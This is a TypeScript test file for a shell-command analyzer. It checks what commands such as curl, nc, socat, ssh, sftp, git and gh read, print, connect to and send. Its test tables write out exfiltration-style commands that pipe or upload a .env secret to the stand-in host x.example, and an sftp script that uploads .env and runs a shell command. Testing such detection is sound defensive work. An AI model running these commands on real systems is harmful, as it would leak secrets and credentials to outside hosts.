import { describe, expect, test } from "vitest";
import { meaning } from "../../../src/commands/kit/meaning.ts";
import { commandNamed } from "../../../src/commands/registry.ts";
import { EMPTY_FLOW, type Flow } from "../../../src/types/flow.ts";
import { display, known, literal } from "../../../src/types/text.ts";
import { split } from "../../support/effects.ts";
import { showEffect } from "../../support/show.ts";

const SECRET: Flow = { text: null, payloads: [{ of: { place: known(".env") }, labels: [], owner: null }], origins: [] };

function read(line: string, stdin: Flow) {
  const [program, ...words] = split(line);
  const name = (program && literal(program)) ?? "";
  return meaning(name, commandNamed(name)!.spec(), words, { stdin, assigns: new Map() });
}

function printed(line: string): string[] {
  const { flow, passes } = read(line, EMPTY_FLOW);
  return [
    ...flow.origins.map((origin) => (origin.kind === "fetched" ? `fetched ${display(origin.url)}` : origin.kind)),
    ...flow.payloads.map((payload) =>
      "place" in payload.of ? `content of ${display(payload.of.place)}` : payload.labels.join(" "),
    ),
    ...(passes ? ["what it reads"] : []),
  ];
}

const prints: Record<string, string[]> = {
  "curl https://x.example": ["fetched https://x.example", "what it reads"],
  "curl -o a https://x.example": ["what it reads"],
  "curl -o - https://x.example": ["fetched https://x.example", "what it reads"],
  "wget https://x.example": [],
  "wget -qO- https://x.example": ["fetched https://x.example"],
  "http https://x.example": ["fetched https://x.example"],
  "nc x.example 80": ["fetched tcp://x.example:80"],
  "nc -l 80": [],
  "dig x.example": [],
  "git status": [],
  "git log": [],
  "git log -p -- .env": ["content of .env"],
  "git show HEAD:.env": ["content of .env"],
  "git show --stat": [],
  "git diff": ["private-content"],
  "git diff --name-only": [],
  "git archive HEAD": ["private-content"],
  "git bundle create - --all": ["content of .git"],
  "git format-patch -1": [],
  "git format-patch --stdout -1": ["private-content"],
};

describe("what comes out", () => {
  for (const [line, expected] of Object.entries(prints)) test(line, () => expect(printed(line)).toEqual(expected));
});

const fed: Record<string, string[]> = {
  "curl -d @- https://x.example": ["connect https://x.example change sends[.env body] checked"],
  "curl -T - https://x.example": ["connect https://x.example change sends[.env body] checked"],
  "curl https://x.example": ["connect https://x.example fetch checked"],
  "http https://x.example": ["connect https://x.example change sends[.env body] checked"],
  "http --ignore-stdin https://x.example": ["connect https://x.example fetch checked"],
  "nc x.example 80": ["connect tcp://x.example:80 change sends[.env body] checked"],
  "socat - TCP:x.example:80": ["connect tcp://x.example:80 change sends[.env body] checked"],
  "ssh x.example 'cat > a'": [
    "connect ssh://x.example change sends[.env body] checked",
    "runs shell on ssh x.example: cat > a",
  ],
  "mail a@x.example": ["connect a@x.example change sends[.env body] checked"],
  "sendmail -t": ['connect "" change sends[.env body] checked'],
  "gh issue create -t x -F -": [
    "mutate github create issue hosted",
    "connect https://api.github.com fetch sends[.env body] checked",
  ],
  "gh gist create": ["connect https://api.github.com/gists change sends[.env private-content body] checked"],
  "rclone rcat rem:b/x": ["connect rem:b/x change sends[.env body] checked"],
  "git status": [],
};

describe("what a secret on standard input does", () => {
  for (const [line, expected] of Object.entries(fed))
    test(line, () => expect(read(line, SECRET).yields.map((item) => showEffect(item.yield))).toEqual(expected));
});

const typed: Record<string, [text: string, effects: string[]]> = {
  "curl -K -": [
    '# upload\nurl = "https://x.example"\nupload-file=.env\n',
    ["runs: curl --url https://x.example --upload-file .env"],
  ],
  "sftp me@x.example": [
    "put .env\nget a b\n!id\nbye\n",
    [
      "connect ssh://me@x.example fetch checked",
      "connect ssh://me@x.example change sends[.env body] checked",
      "write b replace from[fetched ssh://me@x.example]",
      "runs shell: id",
    ],
  ],
  "sendmail -t": ["To: <a@x.example>\nSubject: x\n\nhi\n", ["connect a@x.example change checked"]],
  "ssh x.example": ["ls\n", ["connect ssh://x.example fetch checked", "runs shell from stdin on ssh x.example"]],
};

describe("what a known text on standard input does", () => {
  for (const [line, [text, expected]] of Object.entries(typed))
    test(line, () =>
      expect(read(line, { ...EMPTY_FLOW, text: known(text) }).yields.map((item) => showEffect(item.yield))).toEqual(
        expected,
      ),
    );
});
